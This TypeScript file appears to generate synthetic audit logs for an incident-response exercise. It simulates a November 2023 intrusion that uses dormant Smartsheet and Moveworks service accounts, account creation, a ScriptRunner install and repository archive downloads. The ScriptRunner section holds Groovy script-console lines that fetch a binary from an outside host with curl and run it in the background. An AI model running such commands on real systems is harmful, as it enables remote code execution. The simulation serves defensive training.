/**
 * The attacker's moves, Nov 14-24 2023, and the service accounts' legitimate activity in July 2023 that makes
 * their November use a "dormant account woke up". Every record is tagged with the step it is evidence of.
 */
import type { Rng } from '../rng';
import type { Actor, Origin, Platform } from '../platform';
import type { World } from '../world';
import {
  BITBUCKET_SVC,
  BITBUCKET_SVC_HOME,
  JDOE2,
  MOVEWORKS,
  MOVEWORKS_HOME,
  PRIMARY,
  SLIVER,
  SMARTSHEET,
  SMARTSHEET_HOME,
} from './actors';

const at = (day: number, h: number, m: number, s = 0, month = 10): number =>
  Date.UTC(2023, month, day, h, m, s);

export const SENSITIVE_TERMS = [
  'remote access',
  'password',
  'client secret',
  'openconnect',
  'cloudflared',
  'token',
];

/** July 2023: the integrations doing their ordinary jobs for the last time before going quiet. */
export function legitimateHistory(p: Platform, world: World, rng: Rng): void {
  for (let day = 3; day <= 20; day++) {
    const dow = new Date(Date.UTC(2023, 6, day)).getUTCDay();
    if (dow === 0 || dow === 6) continue;
    if (day <= 14) {
      for (let h = 13; h <= 21; h += 2) {
        const t = at(day, h, rng.int(0, 50), rng.int(0, 59), 6);
        p.search(SMARTSHEET, t, SMARTSHEET_HOME, 'weekly status');
        const proj = rng.pick(world.projects);
        p.issueViewed(SMARTSHEET, t + 20_000, SMARTSHEET_HOME, proj, rng.int(1, proj.issues));
      }
    }
    for (let i = 0; i < 4; i++) {
      const t = at(day, rng.int(15, 23), rng.int(0, 59), rng.int(0, 59), 6);
      p.search(
        MOVEWORKS,
        t,
        MOVEWORKS_HOME,
        rng.pick(['laptop request', 'expense policy', 'holiday calendar', 'wifi']),
      );
      p.pageViewed(MOVEWORKS, t + 5_000, MOVEWORKS_HOME, rng.pick(world.pages));
    }
    if (day <= 7)
      p.clone(
        BITBUCKET_SVC,
        at(day, 3, rng.int(0, 59), 0, 6),
        BITBUCKET_SVC_HOME,
        rng.pick(world.repos),
        'ssh',
      );
  }
}

export interface Defenders {
  readonly admin: Actor;
  readonly adminOrigin: Origin;
}

export function attack(p: Platform, world: World, rng: Rng, defenders: Defenders): void {
  const s = (...ids: string[]): string[] => ids;

  // Nov 14 09:22 reconnaissance: refused logins for the dormant service identities.
  p.loginFailed(SMARTSHEET, at(14, 9, 22, 5), PRIMARY, s('recon-failed-logins'));
  p.loginFailed(SMARTSHEET, at(14, 9, 22, 41), PRIMARY, s('recon-failed-logins'));
  p.loginFailed(SMARTSHEET, at(14, 9, 23, 30), PRIMARY, s('recon-failed-logins'));
  p.loginFailed(MOVEWORKS, at(14, 9, 24, 12), PRIMARY, s('recon-failed-logins'));
  p.loginFailed(MOVEWORKS, at(14, 9, 25, 2), PRIMARY, s('recon-failed-logins'));

  // Nov 15 16:28 the Moveworks token and the Smartsheet account wake up after four months.
  p.login(MOVEWORKS, at(15, 16, 28, 10), PRIMARY, s('dormant-credential-use'));
  let t = at(15, 16, 28, 40);
  p.search(MOVEWORKS, t, PRIMARY, 'remote access', s('dormant-credential-use', 'sensitive-search'));
  for (const term of SENSITIVE_TERMS.slice(1)) {
    t += rng.int(40, 150) * 1000;
    p.search(MOVEWORKS, t, PRIMARY, term, s('sensitive-search'));
  }
  p.login(SMARTSHEET, at(15, 16, 31, 3), PRIMARY, s('dormant-credential-use'));
  p.search(
    SMARTSHEET,
    at(15, 16, 33, 27),
    PRIMARY,
    'vpn password',
    s('dormant-credential-use', 'sensitive-search'),
  );

  // Nov 15-16 reads of 202 wiki pages (the revealing titles first) and 36 Jira issues.
  const revealing = world.pages.filter((pg) => /remote|vpn|credential|tunnel/i.test(pg.title));
  const rest = world.pages.filter((pg) => !revealing.includes(pg));
  const pages = [...rng.sample(revealing, 60), ...rng.sample(rest, 202)].slice(0, 202);
  t = at(15, 16, 40);
  pages.forEach((page, i) => {
    if (i === 120) t = at(16, 8, 2);
    t += rng.int(15, 75) * 1000;
    p.pageViewed(MOVEWORKS, t, PRIMARY, page, s('wiki-page-reads'));
  });
  t = at(16, 9, 5);
  for (const term of ['client secret', 'cloudflared token', 'openconnect']) {
    t += rng.int(60, 240) * 1000;
    p.search(SMARTSHEET, t, PRIMARY, term, s('sensitive-search'));
  }
  t = at(16, 9, 30);
  const seen = new Set<string>();
  while (seen.size < 36) {
    const proj = rng.pick(world.projects);
    const n = rng.int(1, proj.issues);
    const key = `${proj.key}-${n}`;
    if (seen.has(key)) continue;
    seen.add(key);
    t += rng.int(60, 200) * 1000;
    p.issueViewed(SMARTSHEET, t, PRIMARY, proj, n, s('jira-issue-reads'));
  }

  // Nov 16 14:36 a normal-looking user, created and put into groups within minutes.
  p.userCreated(SMARTSHEET, at(16, 14, 36, 20), PRIMARY, JDOE2, s('user-created'));
  const groups =
    p.kind === 'dc'
      ? ['jira-software-users', 'confluence-users', 'stash-users', 'developers']
      : ['jira-software-users', 'confluence-users', 'developers'];
  t = at(16, 14, 37, 5);
  for (const g of groups) {
    p.addedToGroup(SMARTSHEET, t, PRIMARY, JDOE2, g, s('new-user-groups'));
    t += rng.int(40, 110) * 1000;
  }

  // Nov 16-20 brief access checks.
  p.login(JDOE2, at(16, 14, 45, 12), PRIMARY, s('access-checks'));
  p.login(JDOE2, at(17, 10, 5, 40), PRIMARY, s('access-checks'));
  p.login(SMARTSHEET, at(18, 13, 40, 9), SLIVER, s('access-checks'));
  p.login(JDOE2, at(20, 15, 12, 33), PRIMARY, s('access-checks'));
  p.search(JDOE2, at(20, 15, 14, 2), PRIMARY, 'onboarding', s('access-checks'));

  // Nov 22 14:18 ScriptRunner, installed and used by the Smartsheet account (a Jira administrator).
  p.appInstalled(
    SMARTSHEET,
    at(22, 14, 18, 30),
    PRIMARY,
    { key: 'com.onresolve.jira.groovy.groovyrunner', name: 'ScriptRunner for Jira', version: '8.14.0' },
    s('scriptrunner-install'),
  );
  const scripts = [
    'println "id".execute().text',
    'def p = ["/bin/sh", "-c", "curl -s https://idowall.com/jvm-agent -o /tmp/jvm-agent"].execute(); p.waitFor()',
    'def p = ["/bin/sh", "-c", "chmod +x /tmp/jvm-agent && nohup /tmp/jvm-agent >/dev/null 2>&1 &"].execute(); p.waitFor()',
  ];
  t = at(22, 14, 24, 10);
  for (const script of scripts) {
    p.scriptConsole(SMARTSHEET, t, PRIMARY, script, s('script-console'));
    t += rng.int(90, 300) * 1000;
  }

  // Nov 22-23 views of 120 repositories, 76 of them downloaded as archives.
  const viewed = rng.sample(world.repos, 120);
  const downloaded = new Set(rng.sample(viewed, 76));
  t = at(22, 14, 50);
  viewed.forEach((repo, i) => {
    if (i === 70) t = at(23, 7, 0);
    t += rng.int(90, 300) * 1000;
    p.repoViewed(BITBUCKET_SVC, t, PRIMARY, repo, s('repo-views'));
    if (downloaded.has(repo))
      p.archiveDownloaded(BITBUCKET_SVC, t + rng.int(15, 60) * 1000, PRIMARY, repo, s('archive-downloads'));
  });

  // Nov 23 15:58 the Smartsheet account joins an admin group; then the defenders contain it.
  p.addedToGroup(
    SMARTSHEET,
    at(23, 15, 58, 12),
    PRIMARY,
    SMARTSHEET,
    p.kind === 'dc' ? 'jira-administrators' : 'site-admins',
    s('admin-group-add'),
  );
  p.userDeactivated(
    defenders.admin,
    at(23, 16, 35, 20),
    defenders.adminOrigin,
    SMARTSHEET,
    s('contain-smartsheet'),
  );
  p.userDeactivated(
    defenders.admin,
    at(23, 17, 23, 41),
    defenders.adminOrigin,
    JDOE2,
    s('contain-created-user'),
  );

  // Nov 24 last activity: the Moveworks token still works; the disabled Smartsheet account does not.
  p.login(MOVEWORKS, at(24, 10, 44, 2), PRIMARY, s('last-activity'));
  p.search(MOVEWORKS, at(24, 10, 44, 31), PRIMARY, 'token', s('last-activity'));
  p.loginFailed(SMARTSHEET, at(24, 11, 59, 7), SLIVER, s('last-activity'));
}
